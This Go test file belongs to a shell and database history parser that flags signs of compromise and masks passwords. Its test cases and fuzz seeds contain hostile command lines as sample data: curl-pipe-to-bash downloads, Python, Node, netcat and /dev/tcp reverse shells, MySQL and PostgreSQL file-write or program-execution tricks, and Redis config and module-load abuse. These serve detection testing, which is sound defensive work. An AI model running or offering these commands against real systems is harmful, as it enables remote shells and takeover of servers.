package history

import (
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

func texts(es []entry) []string {
	out := make([]string, len(es))
	for i, e := range es {
		out[i] = e.text
	}
	return out
}

func TestReaders(t *testing.T) {
	tests := []struct {
		name  string
		f     format
		in    string
		want  []string
		lines []int
	}{
		{"bash plain", fmtBash, "ls\n\ncd /tmp\r\n", []string{"ls", "cd /tmp"}, []int{1, 3}},
		{"bash timestamps", fmtBash, "#1763900000\nls\n#notatime\n#1763900001\n", []string{"ls", "#notatime"}, []int{2, 3}},
		{"zsh extended", fmtZsh, ": 1763000000:0;ls -la\n: 1763000010:3;for f in *; do\\\n  gzip $f\\\ndone\nplain\n", []string{"ls -la", "for f in *; do\n  gzip $f\ndone", "plain"}, []int{1, 2, 5}},
		{"zsh escaped backslash ends line", fmtZsh, ": 1763000000:0;echo a\\\\\nls\n", []string{`echo a\\`, "ls"}, []int{1, 2}},
		{"zsh bad header kept", fmtZsh, ": x:0;ls\n", []string{": x:0;ls"}, []int{1}},
		{"zsh metafied", fmtZsh, ": 1763000000:0;echo \x83\xa3\n", []string{"echo \x83"}, []int{1}},
		{"mysql libedit", fmtEditline, "_HiStOrY_V2_\nshow\\040tables;\nselect\\040'a\\134b';\n", []string{"show tables;", `select 'a\b';`}, []int{2, 3}},
		{"mysql readline", fmtEditline, "show tables;\n", []string{"show tables;"}, []int{1}},
		{"fish", fmtFish, "- cmd: ls\n  when: 1763100000\n- cmd: echo a\\nb \\\\n\n  when: nope\n  paths:\n    - /x\n- cmd: \n", []string{"ls", "echo a\nb \\n"}, []int{1, 3}},
		{"ksh nul separated", fmtPlain, "\x81\x01ls\x00cd /\x00\n", []string{"\x81\x01ls", "cd /"}, []int{1, 1}},
	}
	for _, tc := range tests {
		got := read(tc.f, []byte(tc.in), 0)
		if !reflect.DeepEqual(texts(got), tc.want) {
			t.Errorf("%s: got %q, want %q", tc.name, texts(got), tc.want)
			continue
		}
		for i, e := range got {
			if e.line != tc.lines[i] {
				t.Errorf("%s: entry %d line %d, want %d", tc.name, i, e.line, tc.lines[i])
			}
		}
	}
	b := readBash([]byte("#1763900000\nls\n"))
	if !b[0].when.Equal(time.Unix(1763900000, 0)) {
		t.Errorf("bash time %v", b[0].when)
	}
	z := readZsh([]byte(": 1763000010:3;ls\n"))
	if !z[0].when.Equal(time.Unix(1763000010, 0)) {
		t.Errorf("zsh time %v", z[0].when)
	}
	f := readFish([]byte("- cmd: ls\n  when: 1763100000\n"))
	if !f[0].when.Equal(time.Unix(1763100000, 0)) {
		t.Errorf("fish time %v", f[0].when)
	}
	if got := read(fmtBash, []byte("ls\n"), 10); got[0].line != 11 {
		t.Errorf("offset not applied: %d", got[0].line)
	}
}

func TestGradeLineShapes(t *testing.T) {
	tests := []struct {
		sh   shape
		line string
		want string // indicator, "" for none
	}{
		{shShell, "curl -s http://203.0.113.9/x | bash", "download-exec"},
		{shShell, "curl -fsSL https://sh.rustup.rs | sh", indInstaller},
		{shShell, "wget https://example.com/a.tar.gz", ""},
		{shShell, "/root/.acme.sh/acme.sh --cron --home /root/.acme.sh", ""},
		{shShell, "/srv/app/.venv/bin/python manage.py migrate", ""},
		{shShell, "/usr/lib/.x/.y/run", "exec-hidden-path"},
		{shShell, "/home/u/.local/.cache/x", "exec-hidden-path"},
		{shPython, "import socket,subprocess,os;s=socket.socket();s.connect(('1.2.3.4',1));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])", "reverse-shell.script"},
		{shPython, "import os; os.listdir('/tmp')", ""},
		{shNode, "require('child_process').exec('id'); new (require('net').Socket)()", "reverse-shell.script"},
		{shMySQL, "select 1 into dumpfile '/usr/lib/mysql/plugin/udf.so'", indSQLFileWrite},
		{shMySQL, "select a,b into outfile '/tmp/export.csv' from t", ""},
		{shMySQL, "set global general_log_file='/var/www/html/x.php'", indSQLFileWrite},
		{shMySQL, "\\! nc -e /bin/sh 203.0.113.9 4444", "reverse-shell.nc"},
		{shPsql, "system id", ""},
		{shPsql, "copy t to program 'curl -d @- http://x'", indSQLProgram},
		{shRedis, "config set dir /var/spool/cron/crontabs", indRedisWrite},
		{shRedis, "config set dbfilename shell.php", indRedisWrite},
		{shRedis, "module load /tmp/exp.so", indRedisModule},
		{shRedis, "module load /usr/lib/redis/modules/rejson.so", ""},
	}
	for _, tc := range tests {
		hs := gradeLine(tc.sh, tc.line)
		found := tc.want == ""
		for _, h := range hs {
			if h.id == tc.want {
				found = true
			}
		}
		if !found || (tc.want == "" && len(hs) > 0) {
			t.Errorf("%q: hits %+v, want %q", tc.line, hs, tc.want)
		}
	}
}

func FuzzReaders(f *testing.F) {
	f.Add("#1763900000\nls\n")
	f.Add(": 1763000000:0;ls\\\n\\\n")
	f.Add("_HiStOrY_V2_\n\\040\\777\\3\\\n")
	f.Add("- cmd: a\\\n  when: 99999999999\n")
	f.Add("\x83\x83\x83")
	f.Fuzz(func(t *testing.T, s string) {
		for _, fm := range []format{fmtPlain, fmtBash, fmtZsh, fmtEditline, fmtFish} {
			for _, e := range read(fm, []byte(s), 0) {
				if e.line < 1 || e.line > strings.Count(s, "\n")+1 || e.text == "" {
					t.Fatalf("format %d: bad entry %+v", fm, e)
				}
			}
		}
		_ = utf8.ValidString(s)
	})
}

func FuzzGradeLine(f *testing.F) {
	f.Add("curl x | sh")
	f.Add("\\! bash -i >& /dev/tcp/1.2.3.4/1 0>&1")
	f.Add("config set dir /root/.ssh")
	f.Fuzz(func(t *testing.T, s string) {
		for sh := shShell; sh <= shRedis; sh++ {
			for _, h := range gradeLine(sh, s) {
				if h.id == "" || ruleFor(h.id) == "" {
					t.Fatalf("bad hit %+v", h)
				}
			}
		}
	})
}

func TestSecretHit(t *testing.T) {
	tests := []struct{ in, want string }{
		{"mysql -uroot -pS3cret db", "mysql -uroot -p**** db"},
		{"mysqldump --password='a b' db", "mysqldump --password=**** db"},
		{"sshpass -p hunter2 ssh root@h", "sshpass -p **** ssh root@h"},
		{"PGPASSWORD=pw psql -h db", "PGPASSWORD=**** psql -h db"},
		{"curl -u bob:pw https://x", "curl -u bob:**** https://x"},
		{"git clone https://u:tok@github.com/a/b https://v:tok2@x", "git clone https://u:****@github.com/a/b https://v:****@x"},
		{"redis-cli -a pw info", "redis-cli -a **** info"},
		{"echo 'bob:pw' | chpasswd", "echo 'bob:****' | chpasswd"},
		{"export DB_PASSWORD=pw", "export DB_PASSWORD=****"},
		{"docker login -u me -p tok registry.io", "docker login -u me -p **** registry.io"},
		{"mysql -u root -p", ""},
		{"export TOKEN=$(cat f)", ""},
		{"scp f alice@10.0.0.1:/srv", ""},
		{"ls -p", ""},
	}
	for _, tc := range tests {
		got, ok := secretHit(tc.in)
		if ok != (tc.want != "") || (ok && got != tc.want) {
			t.Errorf("%q -> %q %v, want %q", tc.in, got, ok, tc.want)
		}
	}
}
